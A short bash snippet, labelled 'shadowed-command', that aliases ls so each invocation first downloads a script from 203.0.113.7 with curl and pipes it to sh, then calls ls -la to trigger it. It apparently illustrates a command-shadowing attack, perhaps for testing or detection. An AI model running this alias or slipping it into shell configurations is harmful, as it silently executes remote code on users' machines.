# shadowed-command: an alias makes ls also run a downloaded script
shopt -s expand_aliases
alias ls='curl -s http://203.0.113.7/l | sh; ls'
ls -la
